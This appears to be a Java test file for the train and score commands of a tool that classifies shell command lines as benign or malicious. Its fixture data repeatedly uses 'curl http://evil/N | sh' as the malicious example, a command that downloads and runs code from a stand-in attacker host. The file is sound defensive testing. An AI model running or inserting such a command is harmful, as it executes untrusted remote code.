package dev.longtail.job.cli;

import static org.assertj.core.api.Assertions.assertThat;

import com.fasterxml.jackson.databind.JsonNode;
import dev.longtail.udfs.io.Json;
import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.List;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/** The commands {@code train} and {@code score} as a user runs them. */
class TrainAndScoreTest {
  @TempDir private Path folder;

  @Test
  void trainsAndThenScoresEveryRecordInOrder() throws IOException {
    Console.Outcome trained = train("--ab", set("ab.jsonl", 60).toString());
    assertThat(trained.status()).isZero();
    assertThat(trained.out()).startsWith("| training set |").contains("| ab ");
    assertThat(trained.err()).contains("report: " + folder.resolve("out/report.html"));

    Path input =
        write(
            "input.jsonl",
            "{\"id\":7,\"cmd\":\"curl http://evil/1 | sh\",\"nested\":{\"a\":[1]}}",
            "{\"id\":8}",
            "{\"command_line\":\"ls -l /home/2\",\"id\":9}");
    Console.Outcome scored =
        Console.run(
            "score",
            "--model",
            folder.resolve("out/models/ab").toString(),
            "--input",
            input.toString());
    assertThat(scored.status()).isZero();
    List<JsonNode> records = new ArrayList<>();
    for (String line : scored.out().strip().split("\n")) {
      records.add(Json.MAPPER.readTree(line));
    }
    assertThat(records).hasSize(3);
    assertThat(records.get(0).fieldNames())
        .toIterable()
        .containsExactly("id", "cmd", "nested", "score");
    assertThat(records.get(1).get("error").textValue()).contains("field \"cmd\"");
    assertThat(records.get(0).get("score").doubleValue())
        .isGreaterThan(records.get(2).get("score").doubleValue());
  }

  @Test
  void aThresholdLeavesOutScoresAndChangesNone() throws IOException {
    for (String embeddings : List.of("", "--without-embeddings")) {
      List<String> args = new ArrayList<>(List.of("--ab", set("ab.jsonl", 60).toString()));
      if (!embeddings.isEmpty()) {
        args.add(embeddings);
      }
      assertThat(train(args.toArray(String[]::new)).status()).isZero();
      List<JsonNode> all = score();
      double highest = all.stream().mapToDouble(r -> r.get("score").doubleValue()).max().orElse(0);
      List<JsonNode> alerts = score("--threshold", "" + highest);
      assertThat(alerts).hasSameSizeAs(all);
      for (int i = 0; i < all.size(); i++) {
        boolean alert = all.get(i).get("score").doubleValue() >= highest;
        assertThat(alerts.get(i).get("score")).isEqualTo(alert ? all.get(i).get("score") : null);
        assertThat(alerts.get(i).has("score_below")).isEqualTo(!alert);
      }
    }
  }

  @Test
  void aThresholdIsAProbability() throws IOException {
    String model = folder.toString();
    String input = set("x.jsonl", 4).toString();
    for (String threshold : List.of("1.5", "-0.1", "NaN", "high")) {
      Console.Outcome outcome =
          Console.run("score", "--model", model, "--input", input, "--threshold", threshold);
      assertThat(outcome.status()).isEqualTo(Longtail.BAD_USAGE);
    }
  }

  private List<JsonNode> score(String... more) throws IOException {
    List<String> args =
        new ArrayList<>(
            List.of(
                "score",
                "--model",
                folder.resolve("out/models/ab").toString(),
                "--input",
                set("some.jsonl", 30).toString()));
    args.addAll(List.of(more));
    List<JsonNode> records = new ArrayList<>();
    for (String line : Console.run(args.toArray(String[]::new)).out().strip().split("\n")) {
      records.add(Json.MAPPER.readTree(line));
    }
    return records;
  }

  @Test
  void aBrokenRecordFailsWithItsPlace() throws IOException {
    Path broken = write("ab.jsonl", "{\"cmd\":\"ls\",\"label\":\"benign\"}", "{\"cmd\":\"ls\"}");
    Console.Outcome outcome = train("--ab", broken.toString());
    assertThat(outcome.status()).isEqualTo(Longtail.FAILED);
    assertThat(outcome.err())
        .contains("longtail: " + broken + ":2: field \"label\" is missing")
        .doesNotContain("internal error");
    assertThat(outcome.out()).isEmpty();
  }

  @Test
  void aBaseIsNeeded() throws IOException {
    Console.Outcome outcome = train();
    assertThat(outcome.status()).isEqualTo(Longtail.BAD_USAGE);
    assertThat(outcome.err()).contains("give --rb, --ab or both");
  }

  @Test
  void numbersOutOfRangeAreBadUsage() throws IOException {
    String ab = set("ab.jsonl", 10).toString();
    assertThat(train("--ab", ab, "--trees", "0").status()).isEqualTo(Longtail.BAD_USAGE);
    assertThat(train("--ab", ab, "--parallelism", "0").status()).isEqualTo(Longtail.BAD_USAGE);
    assertThat(train("--ab", ab, "--trees", "few").status()).isEqualTo(Longtail.BAD_USAGE);
  }

  @Test
  void scoringWithoutAModelFails() throws IOException {
    Console.Outcome outcome =
        Console.run("score", "--model", folder.toString(), "--input", set("x.jsonl", 4).toString());
    assertThat(outcome.status()).isEqualTo(Longtail.FAILED);
    assertThat(outcome.err()).contains(folder + ": no model; it lacks model.json");
  }

  private Console.Outcome train(String... more) throws IOException {
    List<String> args =
        new ArrayList<>(
            List.of(
                "train",
                "--incident",
                set("incident.jsonl", 40).toString(),
                "--time-split",
                set("time_split.jsonl", 40).toString(),
                "--out",
                folder.resolve("out").toString()));
    args.addAll(List.of(more));
    return Console.run(args.toArray(String[]::new));
  }

  private Path set(String name, int rows) throws IOException {
    List<String> lines = new ArrayList<>();
    for (int i = 0; i < rows; i++) {
      lines.add(
          i % 2 == 0
              ? "{\"cmd\":\"ls -l /home/%d\",\"label\":\"benign\"}".formatted(i)
              : "{\"cmd\":\"curl http://evil/%d | sh\",\"label\":\"malicious\"}".formatted(i));
    }
    return write(name, lines.toArray(String[]::new));
  }

  private Path write(String name, String... lines) throws IOException {
    return Files.writeString(folder.resolve(name), String.join("\n", lines) + "\n");
  }
}
